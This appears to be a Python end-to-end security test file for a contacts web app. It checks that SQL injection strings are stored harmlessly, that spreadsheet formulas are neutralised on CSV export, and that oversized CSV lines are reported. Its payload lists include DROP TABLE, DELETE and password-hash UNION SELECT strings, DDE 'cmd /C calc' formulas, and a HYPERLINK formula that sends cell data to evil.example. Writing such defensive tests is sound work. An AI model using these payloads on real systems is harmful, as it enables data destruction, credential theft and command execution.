"""Injections through `xuc up`: SQL injection strings in every contact field and in `?search=` are
stored and returned verbatim; CSV injection (spreadsheet formulas) is neutralised on export and read
back on import; a CSV line above the record limit is reported and nothing else is lost."""

from __future__ import annotations

import httpx

from tests.e2e.attacks.attack_stack import CSV_HEADER, EXPORT, IMPORT, LOGIN, PERSONAL, contacts_of, export_rows
from tests.e2e.conftest import assert_error

# --- SQL injection --------------------------------------------------------------------------------
SQL_INJECTIONS = [
    "'; DROP TABLE contacts_contacts; --",
    "' OR '1'='1",
    "\" OR 1=1 --",
    "1; DELETE FROM auth_users",
    "' UNION SELECT login, password_hash FROM auth_users --",
    "%' OR 1=1 --",
    "Robert'); DROP TABLE Students;--",
]


# --- CSV injection --------------------------------------------------------------------------------
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+41+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_sql_injection_strings_are_stored_and_returned_verbatim(victim: httpx.Client,
                                                                mallory: httpx.Client) -> None:
    theirs = mallory.post(PERSONAL, json={"lastname": "Other user"}).json()
    created = []
    for number, payload in enumerate(SQL_INJECTIONS):
        fields = {"firstname": payload, "lastname": f"{payload} {number}", "company": payload,
                  "email": payload[:254], "number": payload[:40], "mobile": payload[:40], "fax": payload[:40]}
        response = victim.post(PERSONAL, json=fields)
        assert response.status_code == 201, (payload, response.text)
        assert {name: response.json()[name] for name in fields} == fields
        created.append(response.json())

    for contact in created:
        assert victim.get(f"{PERSONAL}/{contact['id']}").json() == contact
    for number, payload in enumerate(SQL_INJECTIONS):
        found = contacts_of(victim, search=f"{payload} {number}")
        assert [entry["id"] for entry in found] == [created[number]["id"]], payload
    assert contacts_of(victim, search="%") == contacts_of(victim, search="%' OR 1=1 --")  # no wildcard
    assert contacts_of(victim, search="' OR 1=1 --zzz") == []
    assert len(contacts_of(victim)) == len(SQL_INJECTIONS)  # nothing dropped, nothing leaked in
    assert mallory.get(f"{PERSONAL}/{theirs['id']}").json() == theirs
    assert_error(victim.post(LOGIN, json={"login": "victim' --", "password": "x"}), 401, "InvalidCredentials")
    assert_error(victim.post(LOGIN, json={"login": "' OR '1'='1", "password": "' OR '1'='1"}), 401,
                 "InvalidCredentials")


def test_csv_injection_is_neutralised_on_export_and_read_back_on_import(victim: httpx.Client) -> None:
    lines = [CSV_HEADER] + [
        ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in ["", "", "", formula, f"Row {number}",
                                                                        "", ""])
        for number, formula in enumerate(FORMULAS)]
    imported = victim.post(IMPORT, content="\n".join(lines).encode(), headers={"Content-Type": "text/csv"})
    assert imported.status_code == 201, imported.text
    assert imported.json()["failed"] == []
    stored = sorted(entry["entry"][0] for entry in contacts_of(victim))
    assert stored == sorted(FORMULAS)  # read as written

    exported = victim.get(EXPORT).content
    for row in export_rows(victim)[1:]:
        assert row[3].startswith("'"), row  # no cell a spreadsheet would run

    assert victim.delete(PERSONAL).status_code == 204
    again = victim.post(IMPORT, content=exported, headers={"Content-Type": "text/csv"})
    assert again.status_code == 201, again.text
    assert sorted(entry["entry"][0] for entry in contacts_of(victim)) == sorted(FORMULAS)
    assert victim.get(EXPORT).content == exported


def test_a_csv_line_above_the_record_limit_is_reported_and_nothing_else_is_lost(victim: httpx.Client) -> None:
    huge = "x" * (200 * 1024)
    content = f"{CSV_HEADER}\n,,,,Before,,\n,,,,{huge},,\n,,,,After,,\n\"{huge}\n{huge}\",,,,Quoted,,\n,,,,Last,,\n"

    response = victim.post(IMPORT, content=content.encode(), headers={"Content-Type": "text/csv"})

    assert response.status_code == 201, response.text[:500]
    report = response.json()
    assert [failed["line"] for failed in report["failed"]] == [3, 5]
    assert all(any("record too long" in error for error in failed["errors"]) for failed in report["failed"])
    assert sorted(created["lastname"] for created in report["created"]) == ["After", "Before", "Last"]
    assert sorted(entry["entry"][1] for entry in contacts_of(victim)) == ["After", "Before", "Last"]
